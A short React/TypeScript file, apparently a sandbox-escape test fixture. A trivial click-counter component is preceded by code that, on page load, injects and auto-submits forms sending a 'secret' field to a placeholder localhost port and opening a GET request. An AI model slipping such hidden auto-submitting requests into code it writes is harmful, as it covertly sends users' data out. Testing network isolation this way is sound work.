document.body.insertAdjacentHTML("beforeend", `<form id="leak" method="post" action="http://127.0.0.1:@PORT@/form"><input name="secret" value="1"></form><form id="get" action="http://127.0.0.1:@PORT@/get" target="_blank"></form>`);
(document.getElementById("leak") as HTMLFormElement).submit();
(document.getElementById("get") as HTMLFormElement).submit();
import { useState } from "react";

export default function Answer() {
  const [n, setN] = useState(0);
  return <button onClick={() => setN(n + 1)}>clicked {n}</button>;
}
